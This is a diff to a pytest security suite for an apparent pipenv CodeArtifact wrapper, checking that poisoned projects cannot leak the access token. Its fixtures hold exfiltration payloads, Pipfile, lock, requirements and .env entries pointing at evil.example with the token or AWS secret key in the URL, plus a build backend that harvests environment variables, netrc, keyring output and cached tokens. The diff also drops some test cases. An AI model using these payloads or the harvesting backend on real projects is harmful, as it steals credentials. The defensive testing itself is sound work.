@@ -99,17 +99,11 @@ class PoisonedProject:
         write_pipfile(self.folder, source(self.codeartifact.endpoint), *tables)
 
     def file(self, name: str, text: str, mode: int = 0o644) -> Path:
+        """Write a file; a text for the Pipfile follows the repository."""
         path = self.folder / name
-        path.write_text(text)
+        path.write_text(source(self.codeartifact.endpoint) + text if name == "Pipfile" else text)
         path.chmod(mode)
         return path
-
-    def put(self, name: str, text: str) -> None:
-        """Write a file, or without a name add a text to the Pipfile."""
-        if name:
-            self.file(name, text)
-        else:
-            self.write(text)
 
     def program(self, name: str, marker: Path) -> Path:
         """Write a program that makes a file when it runs."""
@@ -170,18 +164,13 @@ def marker(tmp_path: Path) -> Path:
 
 ANOTHER = '[[source]]\nurl = "{}"\nverify_ssl = true\nname = "evil"\n[packages]\n'
 VARIABLE = f"${{{TOKEN_VARIABLE}}}"
-# Where the token's variable is: what is added to the Pipfile, or another file and its text.
+# Where the token's variable is: a file and its text.
 STRAYS: dict[str, tuple[str, str]] = {
-    "a second source": ("", ANOTHER.format(f"https://aws:{VARIABLE}@evil.example/simple")),
-    "a host that looks alike": (
-        "",
-        ANOTHER.format(f"https://aws:{VARIABLE}@{AWS_HOST}.evil/pypi/"),
-    ),
-    "without braces": ("", ANOTHER.format(f"https://evil.example/${TOKEN_VARIABLE}/simple")),
-    "Windows' spelling": ("", ANOTHER.format(f"https://evil.example/%{TOKEN_VARIABLE}%/simple")),
-    "a name of a package": ("", f'[packages]\n"x @ {STRAY}" = "*"\n'),
-    "braces in braces": ("", f'[packages]\nx = "@ {STRAY.replace("${", "${A${")}"\n'),
-    "another category": ("", f'[docs]\nx = {{file = "{STRAY}"}}\n'),
+    "a second source": ("Pipfile", ANOTHER.format(f"https://aws:{VARIABLE}@evil.example/simple")),
+    "without braces": ("Pipfile", ANOTHER.format(f"https://evil.example/${TOKEN_VARIABLE}/simple")),
+    "a name of a package": ("Pipfile", f'[packages]\n"x @ {STRAY}" = "*"\n'),
+    "braces in braces": ("Pipfile", f'[packages]\nx = "@ {STRAY.replace("${", "${A${")}"\n'),
+    "another category": ("Pipfile", f'[docs]\nx = {{file = "{STRAY}"}}\n'),
     "a source of the lock": ("Pipfile.lock", lock_with({"name": "evil", "url": STRAY})),
     "a name in the lock": ("Pipfile.lock", lock_with(develop={f"x @ {STRAY}": {"version": "*"}})),
     "git in the lock": ("Pipfile.lock", lock_with(docs={"x": {"git": STRAY, "ref": "main"}})),
@@ -193,7 +182,7 @@ STRAYS: dict[str, tuple[str, str]] = {
 
 @pytest.mark.parametrize("place", STRAYS)
 def test_token_variable_in_any_place_is_refused(place: str, poisoned: PoisonedProject) -> None:
-    poisoned.put(*STRAYS[place])
+    poisoned.file(*STRAYS[place])
     poisoned.refused(TOKEN_VARIABLE, "sync")
 
 
@@ -210,12 +199,11 @@ def test_token_variable_in_pieces_is_refused(poisoned: PoisonedProject) -> None:
 def test_requirements_files_get_no_token_from_pipenv(poisoned: PoisonedProject) -> None:
     poisoned.file("r.txt", f"x @ {STRAY}\n-r more.txt\n")
     poisoned.file("more.txt", f"y @ {STRAY}\n")
-    for words in (("-r", "r.txt"), ("--requirements=r.txt",), ("-dr", "r.txt")):
-        direct = ("--ca-route", "as-written", "install", *words)
-        poisoned.refused("a requirements file", *direct)
-    for words in (("-r", "r.txt"), ("--requirements=r.txt",), ("-dr", "r.txt")):
+    ways = (("-r", "r.txt"), ("--requirements=r.txt",), ("-dr", "r.txt"))
+    for words in ways:
+        poisoned.refused("a requirements file", "--ca-route", "as-written", "install", *words)
+    for words in ways:
         poisoned.gets_no_token("install", *words)
-    poisoned.gets_no_token("--ca-route", "loopback", "install", "-r", "r.txt")
     poisoned.gets_no_token("install", "--req", "r.txt", CODEARTIFACT_AUTH_TOKEN=poisoned.token)
 
 
@@ -229,12 +217,7 @@ INSTALL = ("run", "pip", "install", "-r", "r.txt")
         (("install", "-r", "r.txt"), "r.txt", f"-r {EVIL_URL}\n"),
         (INSTALL, "r.txt", f"six -c {EVIL_URL}\n"),
         (INSTALL, "r.txt", "--constr https://evil.example/${AWS_SECRET_ACCESS_KEY}\n"),
-        (("run", "deps"), "", f'[scripts]\ndeps = "pip install -r {EVIL_URL}"\n{PRIVATE}'),
-        (
-            ("run", "deps"),
-            "",
-            f'[scripts]\ndeps = "PIP_CONSTRAINT={EVIL_URL} pip install six"\n{PRIVATE}',
-        ),
+        (("run", "deps"), "Pipfile", f'[scripts]\ndeps = "pip install -r {EVIL_URL}"\n{PRIVATE}'),
         (("lock",), ".env", "PIP_CONSTRAINT=https://evil.example/${AWS_SECRET_ACCESS_KEY}\n"),
     ],
 )
@@ -242,7 +225,7 @@ def test_requirements_files_by_urls_with_variables_are_not_fetched(
     words: tuple[str, ...], name: str, text: str, poisoned: PoisonedProject
 ) -> None:
     poisoned.file(".env", "")
-    poisoned.put(name, text)
+    poisoned.file(name, text)
     env = {"AWS_SECRET_ACCESS_KEY": "hush"}
     if name != ".env":
         env[TOKEN_VARIABLE] = poisoned.token
@@ -395,12 +378,6 @@ def test_malicious_package_names_are_harmless(
     assert not [*poisoned.folder.parent.rglob("x")]
 
 
-def test_pylock_name_must_not_overwrite_another_file(poisoned: PoisonedProject) -> None:
-    poisoned.write(f'[pipenv]\nuse_pylock = true\npylock_name = "/../config"\n{PRIVATE}')
-    for words in (("lock",), ("--ca-route", "loopback", "lock"), ("install", "orb-common")):
-        poisoned.refused("pylock_name", *words)
-
-
 def test_a_linked_pipfile_leaves_its_target_unchanged(
     poisoned: PoisonedProject, tmp_path: Path
 ) -> None:
@@ -442,80 +419,71 @@ def test_foreign_sources_and_redirects_get_no_token(
         assert pipfile.read_bytes() == before
 
 
+# Writes what build code can read: its environment, netrc, the answer of keyring, the cache.
 _BACKEND = """
 import glob, json, os, subprocess
 def prepare_metadata_for_build_wheel(folder, config_settings=None):
-    netrc = os.environ.get("NETRC", "")
-    seen = {
-        "environ": dict(os.environ),
-        "netrc": open(netrc).read() if os.path.exists(netrc) else "",
-        "keyring": subprocess.run(COMMAND, capture_output=True, text=True).stdout.strip(),
-        "cache": [open(path).read() for path in glob.glob(CACHE + "/*.json")],
-    }
-    with open(OUT, "w") as file:
-        json.dump(seen, file)
+    files = [os.environ.get("NETRC", "nowhere"), *glob.glob({cache!r} + "/*.json")]
+    texts = [open(path).read() for path in files if os.path.exists(path)]
+    answer = subprocess.run({keyring!r}, capture_output=True, text=True).stdout
+    with open({out!r}, "w") as file:
+        json.dump([dict(os.environ), texts[0], answer, texts[1:]], file)
     os.makedirs(folder + "/orb_built-1.0.dist-info")
     with open(folder + "/orb_built-1.0.dist-info/METADATA", "w") as file:
         file.write("Metadata-Version: 2.1\\nName: orb-built\\nVersion: 1.0\\n")
     return "orb_built-1.0.dist-info"
 """
+_SETTINGS = """
+build-system = {requires = [], build-backend = "backend", backend-path = ["."]}
+project = {name = "orb-built", version = "1.0"}
+"""
 
 
-def _sdist(folder: Path, **values: object) -> Path:
-    """Make a source distribution whose backend writes down what it can read."""
-    files = {
-        "backend.py": "".join(f"{name} = {value!r}\n" for name, value in values.items()) + _BACKEND,
-        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
-        'backend-path = ["."]\n[project]\nname = "orb-built"\nversion = "1.0"\n',
-        "PKG-INFO": "Metadata-Version: 2.1\nName: orb-built\nVersion: 1.0\n",
-    }
+def make_curious_sdist(folder: Path, **places: object) -> Path:
+    """Make a source distribution whose backend writes what it can read."""
     path = folder / "orb_built-1.0.tar.gz"
     with tarfile.open(path, "w:gz") as archive:
-        for name, text in files.items():
+        for name, text in {
+            "backend.py": _BACKEND.format(**places),
+            "pyproject.toml": _SETTINGS,
+            "PKG-INFO": "Metadata-Version: 2.1\nName: orb-built\nVersion: 1.0\n",
+        }.items():
             (folder / name).write_text(text)
             archive.add(folder / name, f"orb_built-1.0/{name}")
     return path
 
 
-def test_build_code_sees_a_token_only_on_the_direct_route(
-    codeartifact: Sandbox,
-    poisoned: PoisonedProject,
-    tmp_path: Path,
+def test_build_code_sees_no_token_by_the_proxy_index(
+    codeartifact: Sandbox, poisoned: PoisonedProject, tmp_path: Path
 ) -> None:
-    """The direct route exposes the token; the proxy route only the password of the run.
-
-    Build code runs as the user, so it can use keyring and read the token cache. Without AWS
-    credentials and a cache it finds no token.
-    """
-    poisoned.env["PIPENV_CA_CACHE_DIR"] = str(tmp_path / "tokens")
-    out = tmp_path / "seen.json"
-    command = [KEYRING, "get", codeartifact.endpoint.simple_url, "aws"]
-    sdist = _sdist(tmp_path, COMMAND=command, OUT=str(out), CACHE=str(tmp_path / "tokens"))
+    """With AWS credentials it can ask for one, or read the cache, as the user could."""
+    cache, out = tmp_path / "tokens", tmp_path / "seen.json"
+    poisoned.env |= {
+        "PIPENV_CA_CACHE_DIR": str(cache),
+        "PIP_NO_CACHE_DIR": "1",  # otherwise pip reuses a wheel that it has built
+        "PIPENV_CACHE_DIR": str(tmp_path / "pipenv"),
+    }
+    keyring = [KEYRING, "get", codeartifact.endpoint.simple_url, "aws"]
     repository = codeartifact.add_repository("built")
-    codeartifact.publish(sdist, repository)
+    codeartifact.publish(
+        make_curious_sdist(tmp_path, keyring=keyring, out=str(out), cache=str(cache)), repository
+    )
     write_pipfile(poisoned.folder, source(repository), '[packages]\norb-built = "*"\n')
     token = get_token(codeartifact, poisoned.env, poisoned.folder)
 
-    def seen(*words: str, **env: str) -> dict[str, Any]:
-        out.unlink(missing_ok=True)
-        # pip would reuse a wheel that it has built before.
-        fresh = {"PIP_NO_CACHE_DIR": "1", "PIPENV_CACHE_DIR": str(tmp_path / "pc")} | env
-        done = run(PIPENV_CA, *words, env=poisoned.env | fresh, cwd=poisoned.folder)
+    def lock(**env: str) -> list[Any]:
+        words = (PIPENV_CA, "--ca-route", "loopback", "lock", "--clear")
+        done = run(*words, env=poisoned.env | env, cwd=poisoned.folder)
         assert done.status == 0, done.output
-        found: dict[str, Any] = json.loads(out.read_text())
-        return found
+        seen: list[Any] = json.loads(out.read_text())
+        return seen
 
-    written = seen("--ca-route", "as-written", "lock")
-    assert written["environ"][TOKEN_VARIABLE] == token
-    by_loopback = seen("--ca-route", "loopback", "lock", "--clear")
-    assert [n for n, value in by_loopback["environ"].items() if token in value] == []
-    assert token not in by_loopback["netrc"]
-    assert "login pipenv-ca password " in by_loopback["netrc"]
-    for found in (written, by_loopback):
-        assert found["keyring"] == token
-        assert any(token in text for text in found["cache"])
+    environ, netrc, answer, cached = lock()
+    assert token not in json.dumps([environ, netrc])
+    assert "login pipenv-ca password " in netrc
+    assert token in answer
+    assert any(token in text for text in cached)
     # The safest setup: an inherited token, no credentials, no cache, and the proxy index.
     poisoned.env = without_credentials(poisoned.env)
-    shutil.rmtree(tmp_path / "tokens")
-    least = seen("--ca-route", "loopback", "lock", "--clear", **{TOKEN_VARIABLE: token})
-    assert token not in json.dumps(least)
+    shutil.rmtree(cache)
+    assert token not in json.dumps(lock(**{TOKEN_VARIABLE: token}))
